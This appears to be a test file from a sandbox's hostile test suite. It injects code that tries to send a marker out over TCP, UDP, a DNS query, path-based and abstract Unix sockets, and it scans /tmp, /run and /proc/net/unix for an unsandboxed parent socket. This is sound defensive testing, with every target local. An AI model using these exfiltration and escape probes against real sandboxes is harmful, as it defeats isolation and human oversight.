"""Speaking to anybody. Every target is on this machine."""

from __future__ import annotations

from tests.hostile.attack import SOLVED, attack


def says(work, kind: str, address: object, how: str) -> None:
    """Send the attack's name to this address."""
    work.before(
        "neuron",
        f"""
import socket
try:
    door = socket.socket({kind})
    door.settimeout(1)
    door.connect({address!r})
    door.send({how})
    door.close()
except OSError as error:
    print(error)
""",
    )


def name(work) -> str:
    return f"b'<{work.name}>'"


@attack("sandbox", earns=SOLVED)
def speaks_tcp(work):
    """A TCP connection to a server here."""
    address = ("127.0.0.1", work.outside.doors.tcp)
    says(work, "socket.AF_INET, socket.SOCK_STREAM", address, name(work))


@attack("sandbox", earns=SOLVED)
def speaks_udp(work):
    """A datagram."""
    address = ("127.0.0.1", work.outside.doors.udp)
    says(work, "socket.AF_INET, socket.SOCK_DGRAM", address, name(work))


@attack("sandbox", earns=SOLVED)
def asks_a_name_server(work):
    """A DNS question, whose name carries the message out."""
    address = ("127.0.0.1", work.outside.doors.udp)
    question = f"bytes(12) + bytes([{len(work.name) + 2}]) + {name(work)} + bytes([0, 0, 1, 0, 1])"
    says(work, "socket.AF_INET, socket.SOCK_DGRAM", address, question)


@attack("sandbox", earns=SOLVED)
def speaks_to_a_unix_socket(work):
    """A Unix socket that has a path."""
    says(work, "socket.AF_UNIX, socket.SOCK_STREAM", work.outside.doors.path, name(work))


@attack("sandbox", earns=SOLVED)
def speaks_to_an_abstract_socket(work):
    """A Unix socket without a path."""
    address = f"\0{work.outside.doors.abstract}"
    says(work, "socket.AF_UNIX, socket.SOCK_STREAM", address, name(work))


@attack("sandbox", earns=SOLVED)
def asks_the_warm_parent(work):
    """Looks for the socket that unboxed kernels are to be had from, and knocks."""
    work.before(
        "neuron",
        """
import glob, os, socket, stat
wanted = [value for value in os.environ.values() if value.startswith("/")]
for root in ("/tmp/*", "/tmp/*/*", "/run/*", "/run/*/*", "/var/tmp/*/*", "/dev/shm/*"):
    wanted += glob.glob(root)
with open("/proc/net/unix") as table:
    wanted += [line.split()[-1] for line in table if "/" in line]
here = os.environ.get("HOME", "")
for path in dict.fromkeys(wanted):
    try:
        if not stat.S_ISSOCK(os.stat(path).st_mode):
            continue
        door = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
        door.settimeout(1)
        door.connect(path)
        print("BO" "AST", path)
    except OSError:
        pass
""",
    )
